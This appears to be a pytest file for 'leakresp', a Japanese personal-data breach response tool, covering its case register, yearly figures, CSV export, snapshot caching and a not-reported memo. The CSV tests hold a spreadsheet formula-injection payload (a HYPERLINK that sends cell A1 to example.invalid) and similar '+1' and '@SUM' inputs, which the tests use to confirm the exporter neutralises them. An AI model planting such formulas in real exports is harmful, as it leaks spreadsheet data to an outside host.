"""``leakresp cases``: the register, the figures of a year, the table for spreadsheets, and why nothing was reported."""

import csv
import datetime as dt
import io
import json
import os
import random
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.desk_clock import MAIL, leakresp
from tests.incidents import TODAY
from tests.incidents import read as read_answers
from tests.screens import golden

from leakresp.response.case import Closed, Noted, Reported
from leakresp.response.register import Line, Recorded
from leakresp.shell.cases import open_case
from leakresp.shell.every_case import EveryCase
from leakresp.shell.faults import ANSWERS_MISSING, MISUSE
from leakresp.shell.layout import cells
from leakresp.shell.register_words import COLUMNS, harmless
from leakresp.shell.snapshot import FILE, print_of

__all__ = ["leakresp"]  # the fixture

RANSOMWARE = {
    "cause": "ransomware", "leak": "suspected", "unusable": "confirmed", "data_items": "name, email",
    "affected_people": "500..3000", "discovered_on": "2026-11-18",
}  # fmt: skip
WHY = {
    "not_reported_because": "宛先の全員に連絡し、転送がないことを確かめた。",
    "decided_by": "総務部長 佐藤",
    "decided_on": "2026-11-24",
}
MEMO = "not_reported_memo"
MEMOS = Path(__file__).parent / "golden" / "memo"
LIBREOFFICE = shutil.which("soffice") or shutil.which("libreoffice") or ""


@pytest.fixture
def kept(leakresp, facts):
    """Record events in a case, at the moment of the clock."""

    def keep(name, *events):
        open_case(name, str(leakresp.folder), facts, now=lambda: leakresp.moment).add("佐藤", *events)

    return keep


@pytest.fixture
def several(leakresp, kept):
    """Three cases, an hour apart: one reported, one not, one closed though a report is owed."""
    leakresp.begin("kaiin", RANSOMWARE)
    kept("kaiin", Reported("appi", "preliminary_report", "個人情報保護委員会", "2026-11-20", "R-1"))
    leakresp.moment += dt.timedelta(hours=1)
    leakresp.begin("mail", MAIL, **WHY)
    leakresp.moment += dt.timedelta(hours=1)
    leakresp.begin(
        "usb", {"cause": "lost_device", "leak": "confirmed", "affected_people": "2000", "discovered_on": "2025-12-30"}
    )
    kept("usb", Closed("見つかった"))
    return leakresp


def by_name(found):
    return {case["name"]: case for case in found["cases"]}


# the register ---------------------------------------------------------------------------------------------------------


def test_the_newest_case_comes_first(several):
    assert [case["name"] for case in several.json("cases")["cases"]] == ["usb", "mail", "kaiin"]


def test_a_line_says_what_an_auditor_asks(several):
    kaiin = by_name(several.json("cases"))["kaiin"]
    assert kaiin["discovered_on"] == "2026-11-18"
    assert (kaiin["cause"], kaiin["people"], kaiin["verdict"]) == ("ransomware", "500..3000", "required")
    assert kaiin["criteria"] == ["appi.wrongful_purpose", "appi.over_1000_people"]
    assert kaiin["reports"] == {"preliminary": {"filed_on": "2026-11-20", "day": 3}, "final": None}
    assert (kaiin["closed"], kaiin["not_reported"]) == (None, False)


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_the_screen_of_the_register_is_the_one_kept(several, lang):
    for name, line in (
        ("cases", "cases"),
        ("cases_not_reported", "cases --not-reported"),
        ("cases_year", "cases --year 2026"),
    ):
        shown = several.fine(f"{line} --lang {lang}")
        golden(f"{name}.{lang}.txt", shown)
        assert all(cells(line) <= 80 for line in shown.splitlines())


def test_the_not_reported_stand_with_the_reason_of_the_rules_and_that_of_people(several):
    found = by_name(several.json("cases --not-reported"))
    assert set(found) == {"mail", "usb"}
    why = found["mail"]["why"]
    assert "影響を受ける本人の数：950人" in why["rules"]
    assert why["people"] == WHY | {"decided_on": "2026-11-24"}
    assert not why["closed_owing"]


def test_a_case_closed_though_a_report_is_owed_is_shouted(several):
    usb = by_name(several.json("cases --not-reported"))["usb"]
    assert usb["why"] == {
        "rules": [], "people": dict.fromkeys(WHY), "closed": "見つかった", "closed_owing": True,
    }  # fmt: skip
    assert "報告の記録がないまま終了しています" in "".join(several("cases").split())


def test_what_was_filed_beside_the_act_is_not_taken_for_the_report_under_it(leakresp):
    leakresp.begin("kaiin", RANSOMWARE, privacy_mark="yes")
    leakresp.fine("sent kaiin --filed privacy_mark.final_report --to 審査機関 --on 11/20")
    found = by_name(leakresp.json("cases"))["kaiin"]
    assert found["reports"] == {"preliminary": None, "final": None}
    assert found["filed_elsewhere"] == {"privacy_mark.final_report": "2026-11-20"}
    shown = leakresp.fine("cases")
    assert "確報の記録なし" in shown
    assert "ほかの法律・制度の報告：確報（Pマーク） 2026年11月20日（金）" in shown
    leakresp.fine("case close kaiin --because 見つかった")
    why = by_name(leakresp.json("cases --not-reported"))["kaiin"]["why"]
    assert why["closed_owing"], "the Commission was not told"


def test_a_missing_reason_is_asked_for(leakresp):
    leakresp.begin("mail", MAIL)
    assert "leakresp change mail not_reported_because=" in leakresp("cases --not-reported")


def test_an_open_case_that_owes_a_report_is_not_yet_one_that_was_not_reported(leakresp):
    leakresp.begin("kaiin", RANSOMWARE)
    assert leakresp.json("cases --not-reported")["cases"] == []


def test_a_ruling_on_record_that_said_otherwise_is_told(leakresp, kept):
    leakresp.begin("mail", MAIL)
    kept("mail", *_answers(affected_people="1200"))  # changed without a new ruling, as an older version would
    assert by_name(leakresp.json("cases"))["mail"]["ruled_otherwise"] == "not_required"
    assert "記録にある最後の判定は「報告の義務はありません」でした" in leakresp("cases")


def _answers(**facts):
    from leakresp.response.case import Answered

    return [Answered(facts)]


@pytest.mark.parametrize(
    ("discovered", "filed", "day"),
    [("2026-11-18", "2026-11-18", 1), ("2026-11-18", "2026-11-22", 5), ("unknown", "2026-11-22", None)],
)
def test_the_day_of_knowing_is_day_one(facts, assessor, discovered, filed, day):
    line = made(
        facts,
        assessor,
        {"discovered_on": discovered},
        filed=(("appi", "preliminary", filed), ("appi", "preliminary_report", "2026-12-01")),
    )
    assert (str(line.filed("preliminary").on), line.filed("preliminary").day) == (filed, day)
    assert line.filed("final") is None


def made(facts, assessor, stated, **more):
    fields = {
        "name": "x",
        "title": "",
        "opened": None,
        "facts": stated,
        "filed": (),
        "closed": None,
        "closed_because": None,
        "left_open": (),
        "ruled": None,
    }
    recorded = Recorded(**fields | more)
    return Line(recorded, assessor.assess(read_answers(facts, stated), None, TODAY))


def test_the_year_is_that_of_knowing_in_japan_else_that_of_opening(facts, assessor):
    late = dt.datetime(2026, 12, 31, 15, 30, tzinfo=dt.UTC)
    assert made(facts, assessor, {"discovered_on": "2025-01-01"}, opened=late).year == 2025
    assert made(facts, assessor, {}, opened=late).year == 2027
    assert made(facts, assessor, {}).year is None


# figures --------------------------------------------------------------------------------------------------------------


def test_the_figures_of_a_year_count_causes_situations_and_days(several):
    found = several.json("cases --year 2026")["figures"]
    assert found == {
        "year": 2026,
        "cases": 2,
        "verdicts": {"not_required": 1, "required": 1},
        "causes": {"bcc_mistake": 1, "ransomware": 1},
        "criteria": {"appi.over_1000_people": 1, "appi.wrongful_purpose": 1},
        "days_to_report": {
            "preliminary": {"count": 1, "shortest": 3, "median": 3.0, "longest": 3},
            "final": {"count": 0, "shortest": None, "median": None, "longest": None},
        },
    }
    assert [case["name"] for case in several.json("cases --year 2025")["cases"]] == ["usb"]
    assert several.json("cases --year 2024")["figures"]["cases"] == 0


def test_a_year_that_is_none_is_refused(leakresp):
    leakresp("cases --year 26")
    assert (leakresp.code, "4桁の西暦" in leakresp.err) == (MISUSE, True)


# the table ------------------------------------------------------------------------------------------------------------


def table(several, path, line="cases"):
    several.fine(f"{line} --csv '{path}'")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_the_table_has_a_header_and_a_line_for_each_case(several, tmp_path):
    header, *rows = table(several, tmp_path / "r.csv")
    assert len(header) == len(COLUMNS)
    assert [row[0] for row in rows] == ["usb", "mail", "kaiin"]
    kaiin = dict(zip(COLUMNS, rows[2], strict=True))
    assert (kaiin["people_min"], kaiin["people_max"], kaiin["preliminary_on"], kaiin["preliminary_day"]) == (
        "500",
        "3000",
        "2026-11-20",
        "3",
    )
    mail = dict(zip(COLUMNS, rows[1], strict=True))
    assert mail["people_say"] == WHY["not_reported_because"]
    assert "950人" in mail["because"]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_begins_like_a_formula(begin):
    assert harmless(f"{begin}1+1") == f"'{begin}1+1"
    assert harmless(f"a{begin}") == f"a{begin}"
    assert harmless("") == ""


EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"見る")'


def test_what_somebody_typed_reaches_no_spreadsheet_as_a_formula(leakresp, tmp_path):
    (tmp_path / "evil.yaml").write_text(
        json.dumps(
            {
                "incident": {"title": EVIL},
                "facts": MAIL | {"data_items": ["email"], "not_reported_because": "+1", "decided_by": "@SUM(A1)"},
            }
        ),
        encoding="utf-8",
    )
    leakresp(f"triage evil --no-input --answers '{tmp_path / 'evil.yaml'}'")
    _, row = table(leakresp, tmp_path / "r.csv")
    found = dict(zip(COLUMNS, row, strict=True))
    assert (found["title"], found["people_say"], found["decided_by"]) == (f"'{EVIL}", "'+1", "'@SUM(A1)")


@pytest.mark.skipif(not LIBREOFFICE, reason="needs LibreOffice (Debian: apt-get install libreoffice-calc)")
def test_libreoffice_reads_the_table_and_computes_nothing(leakresp, tmp_path):
    (tmp_path / "evil.yaml").write_text(
        json.dumps({"incident": {"title": EVIL}, "facts": MAIL | {"data_items": ["email"]}}), encoding="utf-8"
    )
    leakresp(f"triage evil --no-input --answers '{tmp_path / 'evil.yaml'}'")
    leakresp.fine(f"cases --csv '{tmp_path / 'r.csv'}'")
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    subprocess.run(
        # 44: comma, 34: quotation mark, 76: UTF-8, which only the dialogue of a window tells by itself
        [LIBREOFFICE, profile, "--headless", "--infilter=CSV:44,34,76", "--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / "r.csv")],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    read = (tmp_path / "r.fods").read_text(encoding="utf-8")
    assert "table:formula" not in read
    assert "HYPERLINK" in read
    assert "<text:p>一斉メールのアドレス露出</text:p>" in read
    assert "<text:p>事案</text:p>" in read  # the mark before the first word is no letter of it


def test_a_table_is_written_over_only_where_leakresp_wrote_it(several, tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("name,salary\n", encoding="utf-8")
    several(f"cases --csv '{path}'")
    assert (several.code, path.read_text(encoding="utf-8")) == (MISUSE, "name,salary\n")
    path.unlink()
    table(several, path)
    table(several, path, "cases --lang en")
    assert table(several, path, "cases --not-reported")[1][0] == "usb"
    if os.name == "posix":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


# the snapshot ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def read_anew(monkeypatch):
    """The cases whose journals were read."""
    read = []
    before = EveryCase.open

    def spy(self, folder):
        read.append(folder.name)
        return before(self, folder)

    monkeypatch.setattr(EveryCase, "open", spy)
    return read


def test_a_journal_is_read_once_and_again_only_after_it_changed(several, kept, read_anew):
    several.fine("cases")
    assert sorted(read_anew) == ["kaiin", "mail", "usb"]
    read_anew.clear()
    first = several.json("cases")
    assert read_anew == []
    kept("mail", Noted("もう一つ分かった"))
    assert several.json("cases") == first
    assert read_anew == ["mail"]
    if os.name == "posix":
        assert stat.S_IMODE((several.folder / FILE).stat().st_mode) == 0o600


def test_the_snapshot_can_be_thrown_away_or_spoilt(several, read_anew):
    first = several.json("cases")
    kept = json.loads((several.folder / FILE).read_text(encoding="utf-8"))
    spoilt = kept | {"cases": {name: each | {"recorded": {}} for name, each in kept["cases"].items()}}
    for content in (
        "",
        "{",
        "[]",
        "null",
        json.dumps(spoilt),
        json.dumps(kept | {"cases": {"mail": 1}}),
        json.dumps(kept | {"rules": "others"}),
    ):
        (several.folder / FILE).write_text(content, encoding="utf-8")
        read_anew.clear()
        assert several.json("cases") == first
        assert sorted(read_anew) == ["kaiin", "mail", "usb"]
    (several.folder / FILE).unlink()
    assert several.json("cases") == first


def test_a_damaged_case_is_never_kept_so_its_damage_is_told_every_time(several, read_anew):
    journal = several.folder / "mail" / "journal.jsonl"
    journal.write_bytes(journal.read_bytes().replace(b"bcc_mistake", b"misdelivery"))
    for _ in range(2):
        several("cases")
        assert "この行は、書かれた後に変えられています" in several.err
    assert read_anew.count("mail") == 2


def test_a_folder_that_cannot_be_written_costs_nothing_but_time(several, monkeypatch):
    from leakresp.shell import snapshot

    def refuse(content, path):
        raise PermissionError(13, "no")

    monkeypatch.setattr(snapshot, "replace_file", refuse)
    assert len(several.json("cases")["cases"]) == 3
    assert several.code == 0


def test_a_case_written_to_while_it_was_read_is_read_again(several, kept, monkeypatch, read_anew):
    before = EveryCase.open

    def written_meanwhile(self, folder):
        opened = before(self, folder)
        if folder.name == "mail":
            kept("mail", Noted("読んでいる間に"))
        return opened

    monkeypatch.setattr(EveryCase, "open", written_meanwhile)
    several.fine("cases")
    read_anew.clear()
    monkeypatch.setattr(EveryCase, "open", before)
    several.fine("cases")
    assert read_anew == ["mail"]


def test_a_journal_without_a_sealed_last_line_has_no_print(tmp_path):
    assert print_of(tmp_path) is None
    (tmp_path / "journal.jsonl").write_bytes(b"")
    assert print_of(tmp_path) is None
    (tmp_path / "journal.jsonl").write_bytes(b'{"hash":"' + b"0" * 64 + b'"}')
    assert print_of(tmp_path) is None


@settings(max_examples=12)
@given(seed=st.integers(0, 2**32))
def test_with_and_without_the_snapshot_the_register_is_the_same(seed, facts, tmp_path_factory):
    """Cases are opened, changed, reported, closed, damaged and taken away; the register never tells."""
    chance = random.Random(seed)  # noqa: S311 - to be the same again
    with pytest.MonkeyPatch.context() as patch:
        from tests.desk_clock import Typing

        typing = Typing(patch, tmp_path_factory.mktemp("register"))
        for step in range(6):
            _something_happens(typing, facts, chance, f"case-{chance.randrange(4)}")
            typing.moment += dt.timedelta(minutes=step)
            with_snapshot, told = typing.json("cases"), typing.err
            (typing.folder / FILE).unlink(missing_ok=True)
            assert (typing.json("cases"), typing.err) == (with_snapshot, told)


def _something_happens(typing, facts, chance, name):
    folder = typing.folder / name
    if not folder.exists():
        typing.begin(name, chance.choice([RANSOMWARE, MAIL]))
        return
    opened = open_case(name, str(typing.folder), facts, now=lambda: typing.moment)
    match chance.randrange(5):
        case 0 if not opened.journal.broken:
            opened.add("佐藤", *_answers(affected_people=str(chance.randrange(3000))))
        case 1 if not opened.journal.broken:
            opened.add(
                "佐藤", Reported("appi", chance.choice(["preliminary_report", "final_report"]), "委員会", "2026-11-24")
            )
        case 2 if not opened.journal.broken:
            opened.add("佐藤", Closed("終わり"))
        case 3:
            journal = folder / "journal.jsonl"
            found = bytearray(journal.read_bytes())
            found[chance.randrange(len(found) // 2)] ^= 1
            journal.write_bytes(bytes(found))
        case _:
            shutil.rmtree(folder)


# why nothing was reported, as a paper ---------------------------------------------------------------------------------

WHOLE = (
    MAIL
    | WHY
    | {"organisation_name": "みほん商事株式会社", "incident_summary": "案内メールの宛先を、互いに見える形で送った。"}
)


def settled(facts):
    return " ".join(f"--set '{fact}={value}'" for fact, value in facts.items())


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_the_record_of_not_reporting_is_the_one_kept(leakresp, lang):
    shown = leakresp.fine(f"draft-notice {MEMO} {settled(WHOLE)} --lang {lang} --final")
    golden(f"memo.{lang}.txt", shown, MEMOS)


def test_no_final_record_without_who_decided_and_why(leakresp):
    leakresp(f"draft-notice {MEMO} {settled(MAIL)} --final")
    assert leakresp.code == ANSWERS_MISSING
    for title in ("報告しないと判断した理由", "判断した人", "判断した日"):
        assert title in leakresp.err


@pytest.mark.parametrize(
    ("facts", "needed"),
    [
        (MAIL, True),
        (RANSOMWARE, False),
        ({"cause": "lost_device", "leak": "suspected"}, False),  # not settled
        (
            {
                "data_relation": "entrusted_to_us",
                "entrustor_bears_duty": "yes",
                "entrustor_notified": "yes",
                "cause": "unauthorized_access",
                "leak": "confirmed",
            },
            True,
        ),
        (MAIL | {"organisation_type": "exempt_purpose"}, True),
        (MAIL | {"leak": "ruled_out", "loss": "ruled_out", "tampered": "ruled_out", "unusable": "ruled_out"}, True),
        # no report under the APPI, but one under the My Number Act
        (MAIL | {"data_items": "my_number", "affected_people": "150"}, False),
    ],
)
def test_the_record_is_called_for_where_no_law_asks_for_a_report(leakresp, facts, needed):
    found = leakresp.json(f"draft-notice --list {settled(facts)}")
    assert (MEMO in [paper["id"] for paper in found["papers"]]) is needed


@pytest.mark.parametrize(
    ("facts", "told"),
    [
        (
            {"organisation_type": "exempt_purpose"},
            "報告の義務はありません（報道・著述・宗教活動・政治活動のための取扱い）。",
        ),
        (
            {"leak": "ruled_out", "loss": "ruled_out", "tampered": "ruled_out", "unusable": "ruled_out"},
            "漏えい等は起きていません",
        ),
        (
            {
                "data_relation": "entrusted_to_us",
                "entrustor_bears_duty": "yes",
                "entrustor_notified": "yes",
                "affected_people": "2000",
            },
            "免除されています（報告義務を負う委託元に知らせた委託先）",
        ),
    ],
)
def test_the_record_says_why_in_each_way_a_duty_can_be_absent(leakresp, facts, told):
    shown = leakresp.fine(f"draft-notice {MEMO} {settled(WHOLE | facts)}").replace("\n", "")
    assert told in shown
